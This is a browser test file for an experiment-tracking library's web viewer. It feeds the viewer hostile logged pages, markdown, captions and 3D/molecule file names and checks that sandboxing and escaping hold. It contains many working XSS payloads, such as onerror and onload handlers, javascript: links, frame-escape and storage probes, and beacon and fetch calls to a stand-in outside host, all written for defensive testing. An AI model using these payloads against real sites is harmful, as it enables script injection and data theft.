"""Logged pages, markdown and text run where they can reach nothing, and are shown all the same."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, Dialog, Download, Page, expect


@dataclass
class Elsewhere:
    """A host that has no business with the page, and what it was asked."""

    url: str = ""
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    """Another server on this machine, which answers everything to everyone."""
    host = Elsewhere()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host.asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            # A browser asks for an icon some time later, maybe in the next test.
            self.wfile.write(b'<title>elsewhere</title><link rel=icon href="data:,">')

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    host.url = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield host
    server.shutdown()
    server.server_close()


# What each tries is written into the page: "name: SecurityError", or "name: reached".
REACHING = """<!doctype html><h1>reaching</h1><pre id=out></pre><script>
const say = (name, text) => { out.textContent += `${name}: ${text}\\n`; };
const probes = {
  parent: () => { parent.document.title = "stolen"; },
  top: () => { top.document.body.innerHTML = "stolen"; },
  variable: () => { parent.attacked = 1; },
  storage: () => { localStorage.attacked = 1; },
  session: () => { sessionStorage.attacked = 1; },
  cookie: () => { document.cookie = "attacked=1"; },
  database: () => { indexedDB.open("attacked"); },
  leaving: () => { top.location = "ELSEWHERE/top"; },
  element: () => { frameElement.sandbox = "allow-same-origin"; },
};
for (const [name, probe] of Object.entries(probes)) {
  try { probe(); say(name, "reached"); } catch (error) { say(name, error.name); }
}
(async () => navigator.serviceWorker.register("/worker.js"))().then(
  () => say("worker", "reached"), error => say("worker", error.name));
</script>"""

NETWORK = """<!doctype html><h1>network</h1><pre id=out></pre><script>
const say = text => { out.textContent += text + "\\n"; };
fetch("ELSEWHERE/fetch").then(() => say("reached"), () => say("fetch refused"));
fetch("/api/v1/projects").then(() => say("reached"), () => say("own refused"));
try { new WebSocket("ELSEWHERE/socket".replace("http", "ws")); } catch {}
try { new EventSource("ELSEWHERE/events"); } catch {}
try { const ask = new XMLHttpRequest(); ask.open("POST", "ELSEWHERE/xhr"); ask.send("x"); } catch {}
navigator.sendBeacon("ELSEWHERE/beacon", "x");
new Image().src = "ELSEWHERE/image";
try { new Worker(URL.createObjectURL(new Blob(["fetch('ELSEWHERE/worker')"]))); } catch {}
</script>"""

MARKUP = """<!doctype html><base href="ELSEWHERE/base/"><link rel=stylesheet href=css><link rel=prefetch href=prefetch>
<link rel=preload as=image href=preload><link rel=modulepreload href=module><link rel=icon href=icon>
<link rel=manifest href=manifest><style>@import "ELSEWHERE/import"; body { background: url(ELSEWHERE/background) }
@font-face { font-family: f; src: url(ELSEWHERE/font) } h1 { font-family: f }</style><h1>markup</h1>
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["ELSEWHERE/speculation"]}]}</script>
<script src=script></script><img src=picture><iframe src=frame></iframe><object data=object></object>
<embed src=embed><video src=video poster=poster></video><audio src=audio></audio>
<svg width=9 height=9><script href="ELSEWHERE/svgscript"></script><image href="ELSEWHERE/svgimage" width=9 height=9 />
<use href="ELSEWHERE/use#a" /><foreignObject><iframe src="ELSEWHERE/foreign"></iframe></foreignObject></svg>
<iframe srcdoc="<script>fetch('ELSEWHERE/nested').catch(() => 0); try { top.document.title = 'stolen' } catch {}</script>"></iframe>
<form action="ELSEWHERE/form"><input name=a value=b></form><script>document.forms[0].submit()</script>"""

WINDOWS = """<!doctype html><h1>windows</h1><a id=save download href="data:text/plain,x">save</a><script>
window.open("ELSEWHERE/window"); alert("attacked"); confirm("attacked"); print();
document.getElementById("save").click();
document.body.requestFullscreen?.().catch(() => {}); document.body.requestPointerLock?.()?.catch?.(() => {});
</script>"""

LEAVING = """<!doctype html><h1>leaving</h1><script>location = "ELSEWHERE/leaving"</script>"""
REFRESH = """<!doctype html><meta http-equiv=refresh content="0; url=ELSEWHERE/refresh"><h1>refresh</h1>"""

LYING = """<!doctype html><h1>lying</h1><script>
for (const height of [1e9, NaN, -5, "9999", Infinity, {}]) parent.postMessage({marey: "size", height}, "*");
for (const url of ["ELSEWHERE/told", "javascript:parent.attacked=1"]) parent.postMessage({marey: "open", url}, "*");
parent.postMessage("size", "*"); parent.postMessage(null, "*");
</script><iframe srcdoc="<script>
top.postMessage({marey: 'size', height: 19999}, '*'); top.postMessage({marey: 'open', url: 'ELSEWHERE/nested'}, '*');
</script>"></iframe>"""

PAGES = {
    "reaching": REACHING,
    "network": NETWORK,
    "markup": MARKUP,
    "windows": WINDOWS,
    "lying": LYING,
    "leaving": LEAVING,
    "refresh": REFRESH,
}

LINKS = """<!doctype html><h1>links</h1>
<a href="javascript:void(parent.attacked = 1)">by script</a>
<a href="data:text/html,<script>top.attacked=1</script>">by data</a>
<a href="ELSEWHERE/link?secret" ping="ELSEWHERE/ping" target=_top>away</a>
<a href="#far">far</a><p style="height: 3000px"></p><h2 id=far>far below</h2>"""

MARKDOWN = """# Marked

[script](javascript:window.attacked=1) [data](data:text/html,<script>1</script>) [vb](vbscript:x)
[file](file:///etc/passwd) [relative](/api/v1/projects) [away](ELSEWHERE/away)

<script>window.attacked=1</script> <img src=ELSEWHERE/raw onerror="window.attacked=1">
<iframe src=ELSEWHERE/iframe></iframe>

![far](ELSEWHERE/picture) ![odd](javascript:window.attacked=1)
![own](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LmF0dGFja2VkPTEiIHdpZHRoPSI5IiBoZWlnaHQ9IjkiLz4=)

<https://example.org/"onmouseover="window.attacked=1>

$\\href{javascript:window.attacked=1}{x}$ $\\def\\a{\\a\\a}\\a$ and $x^2$

[^1]: <b>note</b>
"""


@pytest.fixture(scope="module")
def hostile(log: Callable[[str], None], elsewhere: Elsewhere) -> str:
    """The address of a run that logged all of them."""
    pages = {name: text.replace("ELSEWHERE", elsewhere.url) for name, text in PAGES.items()}
    links, marked = (text.replace("ELSEWHERE", elsewhere.url) for text in (LINKS, MARKDOWN))
    bombs = [">" * 9000, "[" * 9000, "*a " * 9000, "`" * 5001 + "a", "- " * 3000, "|a" * 2000]
    log(f"""
        import json
        import marey

        with marey.init(project="hostile-pages", id="hostilep", name="<b>run</b>") as run:
            for name, text in json.loads({json.dumps(json.dumps(pages))}).items():
                run.log({{f"page/{{name}}": marey.Html(text)}}, step=0)
            run.log({{
                "links": marey.Html({links!r}),
                "marked": marey.Markdown({marked!r}, caption="<script>window.attacked=1</script>"),
                "bombs": [marey.Markdown(bomb) for bomb in {bombs!r}],
                "text": marey.Text({REACHING!r}, caption="\\u202eevil"),
                "hog": marey.Html("<h1>hog</h1><script>setTimeout(() => {{ for (;;); }}, 100)</script>"),
            }}, step=0)
    """)
    return "/local/hostile-pages/runs/hostilep"


class Watched:
    """A page of its own: what browsers block, they say as errors. And all that must not happen."""

    def __init__(self, context: BrowserContext) -> None:
        self.page = context.new_page()
        self.context = context
        self.events: list[str] = []
        self.page.on("dialog", self._dialog)
        self.page.on("download", self._download)
        self.page.on("pageerror", lambda error: self.events.append(str(error)))

    def _dialog(self, dialog: Dialog) -> None:
        self.events.append(dialog.message)
        dialog.dismiss()

    def _download(self, download: Download) -> None:
        self.events.append(download.suggested_filename)

    def assert_untouched(self, url: str, elsewhere: Elsewhere) -> None:
        page = self.page
        assert elsewhere.asked == []
        assert self.events == []
        assert len(self.context.pages) == 1
        assert url in page.url
        assert page.title() != "stolen"
        assert self.context.cookies() == []
        kept = page.evaluate(
            "[window.attacked, localStorage.attacked, sessionStorage.attacked,"
            " document.fullscreenElement, document.pointerLockElement]"
        )
        assert kept == [None] * 5


@pytest.fixture
def watched(context: BrowserContext, elsewhere: Elsewhere) -> Watched:
    """A page to look at hostile things with."""
    elsewhere.asked.clear()
    return Watched(context)


def test_a_page_with_scripts_reaches_nothing(
    watched: Watched, hostile: str, elsewhere: Elsewhere
) -> None:
    page = watched.page
    page.goto(f"{hostile}?find=page")
    for name in ("reaching", "network", "markup", "windows", "lying"):
        panel = page.locator(f'[data-panel="page/{name}"]')
        panel.scroll_into_view_if_needed()
        frame = panel.locator("iframe")
        expect(frame).to_have_attribute("sandbox", "allow-scripts")
        expect(frame.content_frame.get_by_role("heading", name=name)).to_be_visible()
    reaching = page.locator('[data-panel="page/reaching"] iframe').content_frame.locator("#out")
    expect(reaching).to_contain_text("worker:")
    assert "reached" not in reaching.inner_text()
    network = page.locator('[data-panel="page/network"] iframe').content_frame.locator("#out")
    expect(network).to_contain_text("fetch refused")
    expect(network).to_contain_text("own refused")
    assert "reached" not in network.inner_text()
    told = page.locator('[data-panel="page/network"]')
    expect(told.get_by_text(re.compile(r"not loaded: 127\.0\.0\.1"))).to_be_visible()
    for name in ("leaving", "refresh"):
        panel = page.locator(f'[data-panel="page/{name}"]')
        panel.scroll_into_view_if_needed()
        expect(panel.locator("iframe[data-scripts]:not([data-waiting])")).to_be_visible()
    watched.assert_untouched(hostile, elsewhere)


HEIGHT_AFTER_A_FRAME = """async (each) => {
    for (let i = 0; i < 2; i++) await new Promise(requestAnimationFrame);
    return each.clientHeight;
}"""


def test_a_page_cannot_lie_about_its_height_or_open_anything(
    watched: Watched, hostile: str, elsewhere: Elsewhere
) -> None:
    page = watched.page
    page.goto(f"{hostile}?find=page/lying")
    panel = page.locator('[data-panel="page/lying"]')
    inside = panel.locator("iframe").content_frame
    expect(inside.get_by_role("heading")).to_be_visible()
    # Once each has said something else the page has heard its lies, too.
    page.evaluate(
        "addEventListener('message', ({data}) => { window.last = [...(window.last ?? []), data]; })"
    )
    page.evaluate("window.postMessage({marey: 'size', height: 7777}, '*'); postMessage('own', '*')")
    inside.get_by_role("heading").evaluate("() => top.postMessage('frame', '*')")
    inside.frame_locator("iframe").locator("script").evaluate("() => top.postMessage('inner', '*')")
    page.wait_for_function(
        "() => ['own', 'frame', 'inner'].every((one) => window.last?.includes(one))"
    )
    height = panel.locator("iframe").evaluate(HEIGHT_AFTER_A_FRAME)
    assert 100 <= height <= 20_000
    assert height not in {7777, 19_999}
    expect(panel.get_by_text("The link leads to")).to_have_count(0)
    watched.assert_untouched(hostile, elsewhere)


def test_a_link_is_opened_only_by_who_sees_where_it_leads(
    watched: Watched, hostile: str, elsewhere: Elsewhere
) -> None:
    page = watched.page
    page.goto(f"{hostile}?find=links")
    panel = page.locator('[data-panel="links"]')
    inside = panel.locator("iframe").content_frame
    inside.get_by_role("link", name="by script").click()
    inside.get_by_role("link", name="by data").click()
    inside.get_by_role("link", name="away").click()
    address = panel.get_by_role("status").get_by_role("link")
    expect(address).to_have_text(f"{elsewhere.url}/link?secret")
    expect(address).to_have_attribute("rel", "noopener noreferrer")
    watched.assert_untouched(hostile, elsewhere)
    with watched.context.expect_page() as opened:
        address.click()
    window = opened.value
    window.wait_for_load_state()
    assert window.evaluate("[opener, document.referrer]") == [None, ""]
    window.close()
    expect(address).to_have_count(0)
    inside.get_by_role("link", name="far", exact=True).click()
    expect(inside.get_by_role("heading", name="far below")).to_be_in_viewport()


def test_a_page_by_its_own_address_is_as_alone(
    watched: Watched, hostile: str, elsewhere: Elsewhere
) -> None:
    page = watched.page
    page.goto(f"{hostile}?find=page/network")
    link = page.get_by_role("link", name="in a tab")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    page.goto(link.get_attribute("href") or "")
    expect(page.get_by_role("heading", name="network")).to_be_visible()
    expect(page.locator("#out")).to_contain_text("own refused")
    tried = "name => { try { return String(eval(name)) } catch (error) { return error.name } }"
    for name in ("localStorage", "document.cookie", "indexedDB.open('a')"):
        assert page.evaluate(tried, name) == "SecurityError"
    assert page.evaluate("origin") == "null"
    assert elsewhere.asked == []


def test_a_page_that_never_ends_does_not_stop_ours(
    watched: Watched, hostile: str, elsewhere: Elsewhere
) -> None:
    page = watched.page
    page.goto(f"{hostile}?find=hog")
    panel = page.locator('[data-panel="hog"]')
    expect(panel).to_have_attribute("data-state", "ready")
    expect(panel.locator("iframe")).to_be_visible()
    page.get_by_role("button", name="source").click()
    expect(panel).to_contain_text("for (;;);")
    page.goto(f"{hostile}?find=links")
    heading = page.locator('[data-panel="links"] iframe').content_frame.get_by_role("heading").first
    expect(heading).to_be_visible()
    watched.assert_untouched(hostile, elsewhere)


def test_markdown_and_text_are_only_shown(page: Page, hostile: str, elsewhere: Elsewhere) -> None:
    """With the page's own check: not even a word on the console."""
    elsewhere.asked.clear()
    page.goto(f"{hostile}?find=marked")
    panel = page.locator('[data-panel="marked"]')
    body = panel.locator("[data-rendered]")
    expect(body.get_by_role("heading", name="Marked")).to_be_visible()
    hrefs = body.get_by_role("link").evaluate_all("all => all.map(each => each.href)")
    assert {href.split("/")[0] for href in hrefs} <= {"http:", "https:"}
    rels = body.get_by_role("link").evaluate_all("all => all.map(each => each.rel)")
    assert set(rels) == {"noopener noreferrer"}
    expect(body).to_contain_text("<script>window.attacked=1</script>")
    expect(body.locator("script, iframe, object, [onerror], [onmouseover]")).to_have_count(0)
    expect(body.locator("img")).to_have_count(1)
    expect(body.locator("math")).to_have_count(2)
    expect(body.locator("math [href]")).to_have_count(0)
    body.get_by_text("script", exact=True).click()
    expect(panel).to_contain_text("HTML in it is shown as text")
    page.goto(f"{hostile}?find=bombs")
    bombs = page.locator('[data-panel="bombs"]')
    expect(bombs.locator("[data-rendered]")).to_have_count(6, timeout=15_000)
    page.goto(f"{hostile}?find=text")
    expect(page.locator('[data-panel="text"]')).to_contain_text('parent.document.title = "stolen"')
    assert page.evaluate("window.attacked") is None
    assert elsewhere.asked == []


# All kinds by one that has bypassed what the library refuses: names, captions and labels that try.
KINDS = r"""
import io
import json
import struct
import warnings

import matplotlib.figure
import numpy as np

import marey

warnings.simplefilter("ignore")  # what a mesh names is not there
script = "javascript:window.attacked=1"
attack = f"<img src=ELSEWHERE/img onerror='window.attacked=1'><script>{script}</script>\u202e"
attack += f"<a href='{script}'>go</a>]]>&quot;\"'`${{7*7}}"
svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
svg += f'width="90" height="60" onload="window.attacked=1"><script>{script}</script>'
svg += '<style>@import "ELSEWHERE/css";</style><image href="ELSEWHERE/svg" width="9" height="9"/>'
svg += f'<foreignObject width="9" height="9"><iframe src="ELSEWHERE/frame" '
svg += f'xmlns="http://www.w3.org/1999/xhtml"/></foreignObject><a xlink:href="{script}">'
svg += '<rect width="90" height="60" fill="red"/></a></svg>'
# Of a run that another program wrote: the library would refuse it.
marey.Figure.check = lambda self: None
figure = marey.Figure(matplotlib.figure.Figure(figsize=(1, 1)))
object.__setattr__(figure, "content", svg.encode())
object.__setattr__(figure, "title", attack)

data = np.array([(-1, -1, 0), (1, -1, 0), (1, 1, 0)], "<f4").tobytes()
gltf = {
    "asset": {"version": "2.0", "generator": attack}, "scenes": [{"nodes": [0]}],
    "nodes": [{"mesh": 0, "name": attack}], "materials": [{"name": attack}],
    "meshes": [{"name": attack, "primitives": [{"attributes": {"POSITION": 0}, "material": 0}]}],
    "accessors": [{"bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3"}],
    "bufferViews": [{"buffer": 0, "byteLength": 36}], "buffers": [{"byteLength": 36}],
    "extensionsUsed": [attack], "extensionsRequired": [attack],
}
text = json.dumps(gltf).encode()
text += b" " * (-len(text) % 4)
glb = struct.pack("<4sII", b"glTF", 2, 28 + len(text) + 36)
glb += struct.pack("<I4s", len(text), b"JSON") + text + struct.pack("<I4s", 36, b"BIN\0") + data
name = "<img/src=ELSEWHERE/obj/onerror=window.attacked=1>"
obj = f"mtllib ../{name}.mtl \u202eevil.mtl\no {name}\nusemtl {name}\n"
obj += "v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n"
word = attack.replace("'", "").replace('"', "").replace(" ", "/")
columns = ["group_PDB", "id", "type_symbol", "label_atom_id", "label_comp_id", "label_asym_id",
           "label_seq_id", "Cartn_x", "Cartn_y", "Cartn_z"]
cif = "data_x\nloop_\n" + "".join(f"_atom_site.{each}\n" for each in columns)
cif += "".join(f'ATOM {i} C "{word}" "{word}" "{word}" {i} {i} 0 0\n' for i in (1, 2, 3))
pdb = "TITLE     <img src=x onerror=1>\n"
pdb += "ATOM      1 <b>  <i> <   1       0.000   0.000   0.000  1.00  0.00           C\nEND\n"
scene = {"type": "lidar/beta", "points": [[0, 0, 0], [1, 1, 1]],
         "boxes": [{"corners": [[x, y, z] for x in (0, 1) for y in (0, 1) for z in (0, 1)],
                    "label": attack, "color": [9, 9, 9]}]}
marks = np.ones((8, 8), np.uint8)
box = {"position": {"minX": 0.1, "maxX": 0.9, "minY": 0.1, "maxY": 0.9}, "class_id": 1,
       "box_caption": attack}
layers = {"box_data": [box], "class_labels": {1: attack}}
long = attack + "<b>long</b>" * 2800
with marey.init(project="hostile-kinds", id="hostilek", name=f"\u202e{attack}",
                config={attack: attack}) as run:
    run.log({
        "audio": marey.Audio(np.zeros(800), 8000, caption=attack),
        "figure": figure,
        "histogram": marey.Histogram([1, 2, 3]),
        "image": marey.Image(marks, caption=long, boxes={attack: layers},
                             masks={attack: {"mask_data": marks, "class_labels": {1: attack}}}),
        "mesh": [marey.Object3D(io.BytesIO(glb), file_type="glb", caption=attack),
                 marey.Object3D(io.StringIO(obj), file_type="obj", caption=long)],
        "molecule": [marey.Molecule(io.StringIO(cif), file_type="mmcif", caption=attack),
                     marey.Molecule(io.StringIO(pdb), file_type="pdb", caption=attack)],
        "point_cloud": marey.Object3D.from_file(io.StringIO(json.dumps(scene)), "pts.json"),
        "table": marey.Table(columns=[attack, "__proto__", "b"],
                             data=[[attack, script, marey.Image(marks, caption=attack)]] * 3),
        "text": marey.Text(long, caption=attack),
        "value": {attack: [attack, script], "__proto__": {"attacked": 1}},
        "video": marey.Video(np.zeros((2, 3, 16, 16), np.uint8), fps=4, format="gif",
                             caption=attack),
        attack: [1, attack],
    }, step=0)
"""
# The others show names only where they are pointed at.
WITH_TEXT = ("audio", "image", "mesh", "molecule", "table", "text", "video")


def test_names_captions_and_labels_of_every_kind_are_only_shown(
    watched: Watched, log: Callable[[str], None], elsewhere: Elsewhere
) -> None:
    log(KINDS.replace("ELSEWHERE", elsewhere.url))
    page = watched.page
    page.set_viewport_size({"width": 1000, "height": 5200})
    page.goto("/local/hostile-kinds/runs/hostilek")
    shown = page.locator("[data-panel][data-state=ready]")
    expect(shown).to_have_count(13, timeout=30_000)
    for kind in WITH_TEXT:
        expect(page.locator(f'[data-panel="{kind}"]')).to_contain_text("window.attacked=1")
    drawn = page.locator("[data-view3d][data-drawn]")
    expect(drawn).to_have_count(5, timeout=30_000)
    for view in drawn.all():
        box = view.bounding_box()
        assert box is not None
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    expect(page.locator("[onerror], [onload], a[href^=javascript]")).to_have_count(0)
    page.goto("/local/hostile-kinds?tab=runs")
    expect(page.get_by_role("main")).to_contain_text("window.attacked=1")
    for kind in ("table", "mesh", "molecule", "figure", "image"):
        page.goto(f"/local/hostile-kinds/runs/hostilek?large={kind}")
        large = page.locator(f'[data-large][data-panel="{kind}"]')
        expect(large).to_have_attribute("data-state", "ready", timeout=30_000)
    watched.assert_untouched("/local/hostile-kinds", elsewhere)
    assert page.evaluate("({}).attacked ?? null") is None
